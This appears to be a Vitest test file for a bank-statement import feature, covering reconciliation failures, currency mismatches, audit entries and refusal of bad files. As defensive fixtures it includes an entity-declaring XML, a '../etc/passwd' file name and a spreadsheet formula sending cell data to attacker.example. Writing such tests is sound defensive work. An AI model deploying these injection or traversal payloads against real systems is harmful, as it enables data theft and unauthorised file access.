import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addAccount, auditEntries, entryTextWithoutIds, bankingRowCounts, EUR_ACCOUNT, GBP_ACCOUNT, makeDemoVaultCopies, type DemoVault } from '../../../test/fixtures/demo/demoVault.js';
import { readFixture, readFixtureBytes } from '../../../test/fixtures/domain/vectors.js';
import { writeZip } from '../../../test/fixtures/domain/writeZip.js';
import { balanceOf, importInto, imported } from '../../../test/support/statementImport.js';
import { textFile } from '../../../test/support/fileInput.js';
import type { UnlockedVault } from '../../vault/index.js';

// Coffer's day-end camt.053 of the operating account (test/fixtures/domain/camt053-v08-dayend.xml): opening
// 10,000.00, six bookings, closing 10,510.50. Changing the closing balance makes it differ from itself.
const OPERATING = 'DE02120300000000202051';
const dayEnd = readFixture('camt053-v08-dayend.xml');
const differing = dayEnd.replace('<Amt Ccy="EUR">10510.50</Amt>', '<Amt Ccy="EUR">10610.50</Amt>');
const COFFER_CSV = 'entry_ref,booking_date,value_date,amount,currency,counterparty_name,counterparty_iban,remittance_info\n';

let vaults: DemoVault[];
let vault: UnlockedVault;
let other: UnlockedVault;
beforeAll(async () => {
  vaults = await makeDemoVaultCopies('alice', 2);
  [vault, other] = vaults.map((v) => v.vault) as [UnlockedVault, UnlockedVault];
  for (const v of [vault, other]) addAccount(v, { iban: OPERATING, currency: 'EUR' });
});
afterAll(() => vaults?.forEach((v) => v.close()));

describe('when a statement does not reconcile with itself', () => {
  it('refuses it with APP_UNRECONCILED naming the failed checks, books nothing, and audits the refusal with the statuses', async () => {
    const rows = bankingRowCounts(vault);
    const entries = auditEntries(vault).length;
    const result = await importInto(vault, { file: textFile('eod.xml', differing) });
    expect(result).toMatchObject({ ok: false, error: { code: 'APP_UNRECONCILED' } });
    if (result.ok) return;
    expect(result.error.message).toBe(
      'expected statements that reconcile with themselves, found 1 that differs: statement 1 of eod.xml: balance (opening balance (OPBD) plus 6 booked entries does not give the closing balance (CLBD)); '
        + 'nothing was booked: check the file with the bank, or import it with acceptUnreconciled (--accept-unreconciled) to book it as it is',
    );
    expect(bankingRowCounts(vault)).toEqual(rows);
    const log = auditEntries(vault);
    expect(log).toHaveLength(entries + 1);
    expect(log.at(-1)).toMatchObject({
      action: 'statements.import', outcome: 'failed', reason: 'APP_UNRECONCILED', target: 'eod.xml',
      details: { acceptUnreconciled: false, reconciliation: { differs: 1 }, differing: [{ statement: 1, member: null, failed: ['balance'] }], imported: 6 },
    });
  });

  it('books it when the caller accepts that, shows every failed check with amounts, and the audit entry says so without them', async () => {
    const result = await imported(vault, { file: textFile('eod.xml', differing), acceptUnreconciled: true });
    expect(result).toMatchObject({ imported: 6, differing: 1 });
    const [statement] = result.statements;
    expect(statement).toMatchObject({ acceptedUnreconciled: true, reconciliation: { status: 'differs' } });
    expect(statement?.reconciliation.checks.filter((c) => !c.ok)).toEqual([{
      check: 'balance', ok: false, expected: 1_061_050, found: 1_051_050, currency: 'EUR', expectedText: '10,610.50 EUR', foundText: '10,510.50 EUR',
      message: 'opening balance (OPBD) plus 6 booked entries does not give the closing balance (CLBD)',
    }]);
    const entry = auditEntries(vault).at(-1);
    expect(entry).toMatchObject({ outcome: 'allowed', details: { acceptUnreconciled: true, reconciliation: { differs: 1 }, differing: [{ failed: ['balance'] }] } });
    expect(entryTextWithoutIds(entry)).not.toMatch(/10610|1061050|10510|1051050/);
    expect(vault.db.prepare('SELECT reconciliation_status AS status, accepted_unreconciled AS accepted FROM statements').get()).toEqual({ status: 'differs', accepted: 1 });
  });

  it('treats entries in another currency than the account as a difference, and books them in their own currency, not in the balance', async () => {
    const csv = `${COFFER_CSV}FX-1,2025-03-01,,10.00,EUR,,,in euro\nFX-2,2025-03-01,,20.00,GBP,,,in pounds\n`;
    const refused = await importInto(other, { file: textFile('fx.csv', csv), account: OPERATING });
    expect(refused).toMatchObject({ ok: false, error: { code: 'APP_UNRECONCILED', message: expect.stringContaining('entry-currency (1 booked entries in another currency)') } });
    const before = balanceOf(other, OPERATING);
    const result = await imported(other, { file: textFile('fx.csv', csv), account: OPERATING, acceptUnreconciled: true });
    expect(result.statements[0]).toMatchObject({ imported: 2, otherCurrency: 1, importedNet: { amountMinor: 1000, currency: 'EUR' } });
    expect(balanceOf(other, OPERATING) - before).toBe(1000);
    expect(other.db.prepare("SELECT currency, amount_minor AS amount FROM statement_transactions WHERE entry_ref = 'FX-2'").get()).toEqual({ currency: 'GBP', amount: 2000 });
  });
});

describe('when a statement states no currency and an entry is in another than its account\'s', () => {
  it('adds the check the file could not make (entry-currency) and refuses it unless accepted', async () => {
    // Without Acct/Ccy the statement cannot compare its entries' currencies; the 45.50 card payment in USD
    // would even leave its balances adding up. The account is kept in EUR.
    const noCurrency = dayEnd.replace('<Ccy>EUR</Ccy>', '').replaceAll('<Amt Ccy="EUR">45.50</Amt>', '<Amt Ccy="USD">45.50</Amt>');
    const result = await importInto(other, { file: textFile('usd-entry.xml', noCurrency) });
    expect(result).toMatchObject({ ok: false, error: { code: 'APP_UNRECONCILED', message: expect.stringContaining('entry-currency (1 booked entries in another currency)') } });
  });
});

describe('when a statement file cannot be booked', () => {
  const zipOf = (...members: [string, string][]) => writeZip(members.map(([name, data]) => ({ name, data })));
  const cases: [string, () => Parameters<typeof importInto>[1], string, RegExp][] = [
    ['malformed XML', () => ({ file: textFile('bad.xml', dayEnd.replace('</Stmt>', '</Stmnt>')) }), 'DOMAIN_BAD_STATEMENT', /line \d+/],
    ['an XML file declaring entities', () => ({ file: textFile('evil.xml', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x "y">]><Document/>') }), 'DOMAIN_UNSAFE_XML', /./],
    ['a ZIP with one broken member of two', () => ({ file: { name: 'c53.zip', bytes: zipOf(['ok.xml', readFixture('camt052-v08-intraday.xml')], ['broken.xml', dayEnd.replace('</Stmt>', '</Stmnt>')]) } }), 'DOMAIN_BAD_STATEMENT', /^broken\.xml: /],
    ['a CSV row with a malformed amount', () => ({ file: textFile('bad.csv', `${COFFER_CSV}A1,2025-03-01,,10.00,EUR,,,ok\nA2,2025-03-01,,12.3.45,EUR,,,bad\n`), account: EUR_ACCOUNT }), 'DOMAIN_BAD_CSV', /line 3/],
    ['a CSV mapping naming a column the file lacks', () => ({ file: { name: 'dkb.csv', bytes: readFixtureBytes('csv-commerzbank.csv') }, columns: 'date=1,amount=Wieviel' }), 'DOMAIN_BAD_CSV', /Wieviel/],
    ['a CSV that names no account, with none given', () => ({ file: textFile('s.csv', `${COFFER_CSV}A1,2025-03-01,,10.00,EUR,,,ok\n`) }), 'APP_BAD_INPUT', /^account: expected the account statement 1 of s\.csv belongs to/],
    ['a statement of an account the organisation does not hold', () => ({ file: textFile('nl.xml', dayEnd.replaceAll('DE02120300000000202051', 'NL91ABNA0417164300')) }), 'APP_UNKNOWN_ACCOUNT', /an IBAN from NL that matches none/],
    ['a statement imported as another account\'s', () => ({ file: textFile('eod.xml', dayEnd), account: GBP_ACCOUNT }), 'APP_BAD_INPUT', /^account: expected the account statement 1 of eod\.xml names, found another$/],
    ['a statement kept in another currency than its account', () => ({ file: textFile('usd.xml', dayEnd.replace('<Ccy>EUR</Ccy>', '<Ccy>USD</Ccy>')) }), 'APP_BAD_FILE', /in EUR, the currency of the account it names, found a statement in USD/],
    ['a file name with a folder in it', () => ({ file: textFile('../etc/passwd', dayEnd) }), 'APP_BAD_INPUT', /^file\.name: /],
    ['an unknown format', () => ({ file: textFile('eod.xml', dayEnd), format: 'camt.053' as 'camt' }), 'APP_BAD_INPUT', /^format: /],
    ['an empty file', () => ({ file: textFile('empty.xml', '') }), 'DOMAIN_BAD_STATEMENT', /found an empty one/],
  ];
  it.each(cases)('refuses %s, leaves the vault unchanged, and records one failed audit entry', async (_, input, code, message) => {
    const rows = bankingRowCounts(other);
    const balances = other.db.prepare('SELECT iban, balance_minor FROM accounts ORDER BY iban').all();
    const entries = auditEntries(other).length;
    const result = await importInto(other, input());
    expect(result).toMatchObject({ ok: false, error: { code } });
    if (!result.ok) expect(result.error.message).toMatch(message);
    expect(bankingRowCounts(other)).toEqual(rows);
    expect(other.db.prepare('SELECT iban, balance_minor FROM accounts ORDER BY iban').all()).toEqual(balances);
    const log = auditEntries(other);
    expect(log).toHaveLength(entries + 1);
    expect(log.at(-1)).toMatchObject({ action: 'statements.import', outcome: 'failed', reason: code });
  });
});

describe('when a CSV holds text a spreadsheet would run', () => {
  it('stores it verbatim as data and reports the cells with the mapping used', async () => {
    const result = await imported(other, { file: { name: 'statement.csv', bytes: readFixtureBytes('statement.csv') }, account: EUR_ACCOUNT });
    expect(result.statements[0]?.csv).toMatchObject({ dialect: 'coffer', formulaCells: [{ line: 7, header: 'counterparty_name' }, { line: 7, header: 'remittance_info' }] });
    const row = other.db.prepare("SELECT amount_minor AS amount, counterparty_name AS name FROM statement_transactions WHERE entry_ref = '2025030300118006'").get();
    // Neutralising is for export, never for storage.
    expect(row).toEqual({ amount: -1999, name: '=HYPERLINK("http://attacker.example/?x="&A1)' });
  });
});
